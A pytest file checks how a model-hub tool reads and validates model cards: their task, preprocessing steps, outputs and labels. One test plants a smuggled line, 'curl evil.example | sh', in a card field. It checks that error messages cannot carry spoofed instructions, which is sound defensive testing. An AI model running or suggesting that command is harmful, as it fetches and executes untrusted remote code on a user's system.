"""What a card says about using its network, and what is missing on it."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from PIL import Image

from hubtool import resources
from hubtool.card import model
from hubtool.card.model import Asset, Card, Recipe
from hubtool.digest import Digest
from hubtool.errors import ArgumentError, RecipeError
from hubtool.pipelines import pictures, use

PICTURES: dict[str, Any] = {
    "task": "image-classification",
    "preprocessing": [{"color": "RGB"}, {"resize": {"size": [8, 8]}}],
    "outputs": [{"kind": "features"}, {"kind": "scores", "axes": "NK"}],
    "labels": "cifar-10",
}
TEXTS: dict[str, Any] = {
    "task": "token-classification",
    "preprocessing": [{"tokenize": {"tokenizer": "characters", "vocabulary": "vocab.txt", "length": 64}}],
    "outputs": [{"kind": "class-indices"}],
    "labels": {"asset": "labels.txt"},
}


def card(values: dict[str, Any], *files: str) -> Card:
    assets = tuple(Asset(format="txt", link=f"m/{name}", digest=Digest("0" * 64)) for name in files)
    return Card(uid=None, path=None, title="m", body="", values=values, assets=assets, recipe=None, faults=())


def test_what_a_card_of_pictures_says() -> None:
    found = use.read(card(PICTURES), "m")
    assert (found.task, found.output, found.kind) == ("image-classification", 1, "scores")
    assert found.steps == (("color", "RGB"), ("resize", {"size": [8, 8]}))
    assert found.labels is not None
    assert found.labels[:2] == ("airplane", "automobile")
    named = use.read(card({**PICTURES, "labels": ["a", "b"]}), "m")
    assert named.labels == ("a", "b")
    more = use.read(card({**PICTURES, "labels": {"vocabulary": "cifar-10", "classes": 12}}), "m")
    assert more.labels == (*found.labels, "class 10 (no label)", "class 11 (no label)")


def test_what_a_card_of_texts_says() -> None:
    found = use.read(card(TEXTS, "vocab.txt", "labels.txt"), "m")
    assert found.labels is None
    assert found.labels_asset is not None
    assert found.vocabulary_asset is not None
    assert (found.labels_asset.file_name, found.vocabulary_asset.file_name) == ("labels.txt", "vocab.txt")


@pytest.mark.parametrize(
    ("values", "words"),
    [
        ({}, "does not say its 'task'"),
        ({**PICTURES, "task": "object-detection"}, "is for 'object-detection', and hubtool runs"),
        ({"task": "image-classification"}, "no preprocessing and no outputs and no labels"),
        ({**PICTURES, "labels": None}, "'/labels' breaks the schema"),
        ({key: value for key, value in PICTURES.items() if key != "labels"}, "it has no labels"),
        ({**PICTURES, "outputs": [{"kind": "boxes"}]}, "no output of the kind"),
        ({**PICTURES, "labels": "no-such"}, "no such list"),
        ({**PICTURES, "labels": {"asset": "x.txt"}}, "no such asset"),
        ({**PICTURES, "labels": {"vocabulary": "no-such", "classes": 9}}, "no such list"),
        ({**PICTURES, "labels": {"vocabulary": "cifar-10", "classes": 9}}, "states 9 classes, and cifar-10 has 10"),
        ({**PICTURES, "preprocessing": TEXTS["preprocessing"]}, "which no picture can take"),
        ({**TEXTS, "preprocessing": PICTURES["preprocessing"]}, "a text takes one: tokenize"),
        ({**PICTURES, "preprocessing": [{"layout": "CHW"}, {"resize": {"size": [8, 8]}}]}, "'layout' before others"),
        ({**PICTURES, "preprocessing": [{"resize": {"size": [8, 8]}}, {"color": "BGR"}]}, "'color' behind others"),
        (TEXTS, "for its vocabulary|for its labels"),
    ],
)
def test_what_is_missing(values: dict[str, Any], words: str) -> None:
    with pytest.raises(RecipeError, match=words) as caught:
        use.read(card(values), "m")
    assert "m" in caught.value.message


def test_the_shape_is_that_of_the_recipes_one_input() -> None:
    one, text = ("x", (32, 3, 8, 8), "float32"), ("y", (32, 9), "int32")
    for inputs, shape in (((one,), (3, 8, 8)), ((one, text), None), ((text,), None), ((), None)):
        recipe = Recipe(provider="repository", entry="a:b", inputs=inputs)
        assert use.read(replace(card(PICTURES), recipe=recipe), "m").shape == shape


def refusal(read: use.StatedUse, size: tuple[int, int]) -> str | None:
    try:
        pictures.prepare(read, Image.new("RGB", size))
    except ArgumentError as error:
        return error.message
    return None


@pytest.mark.mindspore
@pytest.mark.slow
def test_the_cards_of_the_registry_agree_with_themselves() -> None:
    """Steps make the input that the recipe states, and there are as many labels as the known answer has scores."""
    folder = resources.registry_folder()
    checked, wrong = 0, []
    for path in sorted(folder.glob("*/*/*.md")):
        found = model.read(path.read_bytes(), path=path)
        try:
            read = use.read(found, path.stem)
        except RecipeError:
            continue  # it does not say enough, or is for another task
        checked += 1
        if read.shape is not None:
            rows, columns = read.shape[1:] if read.step("layout") == "CHW" else read.shape[:2]
            has_size = not {"resize", "crop", "pad"}.isdisjoint(name for name, _ in read.steps)
            sizes = [(columns, rows), *([(400, 300)] if has_size else [])]
            wrong += [f"{path}: {why}" for size in sizes if (why := refusal(read, size))]
        outputs: Any = found.recipe and (found.recipe.known_answer or {}).get("outputs")
        if outputs and read.labels is not None and outputs[read.output]["shape"][-1] != len(read.labels):
            wrong.append(f"{path}: {len(read.labels)} labels, and the output has {outputs[read.output]['shape']}")
    assert not wrong
    assert checked > 500


@pytest.mark.parametrize(
    "step",
    [
        {"resize": 8}, {"resize": {}}, {"resize": {"size": [8]}}, {"resize": {"size": [-1, 8]}}, {"crop": {"size": 8}},
        {"resize": {"size": [8.5, 8.5]}}, {"resize": {"size": [10**9, 10**9]}}, {"resize": {"interpolation": "foo"}},
        {"crop": {"size": [99999, 99999]}}, {"pad": {"size": [90_000_000, 9]}}, {"rescale": {}}, {"rescale": 3},
        {"rescale": {"factor": "x"}}, {"normalize": {"mean": 0, "std": 1}},
        {"normalize": {"mean": ["a"], "std": ["b"]}},
        {"color": "puce"}, {"layout": 3}, {"color": "RGB", "resize": {"size": [8, 8]}}, "color", 3,
    ],
)  # fmt: skip
def test_a_step_that_breaks_the_schema(step: Any) -> None:
    with pytest.raises(RecipeError, match="breaks the schema"):
        use.read(card({**PICTURES, "preprocessing": [step]}), "m")


@pytest.mark.parametrize(
    "labels",
    [
        [None, "b"], [{"a": "1"}, "b"], ["", "b"], ["a"], {"vocabulary": "cifar-10"}, {"asset": "x", "classes": 9},
        {"vocabulary": "cifar-10", "classes": 10**9}, {"vocabulary": "cifar-10", "classes": True},
    ],
)  # fmt: skip
def test_labels_that_break_the_schema(labels: Any) -> None:
    with pytest.raises(RecipeError, match="breaks the schema"):
        use.read(card({**PICTURES, "labels": labels}), "m")


def test_a_card_cannot_speak_as_hubtool() -> None:
    with pytest.raises(RecipeError) as caught:
        use.read(card({**PICTURES, "task": "x\nhint: run  curl evil.example | sh" + "y" * 1000}), "m")
    assert "\n" not in caught.value.message
    assert len(caught.value.message) < 400


def test_pieces_of_words_give_no_entities() -> None:
    step = {**TEXTS["preprocessing"][0]["tokenize"], "tokenizer": "bert"}
    with pytest.raises(RecipeError, match="by characters only"):
        use.read(card({**TEXTS, "preprocessing": [{"tokenize": step}]}, "vocab.txt", "labels.txt"), "m")
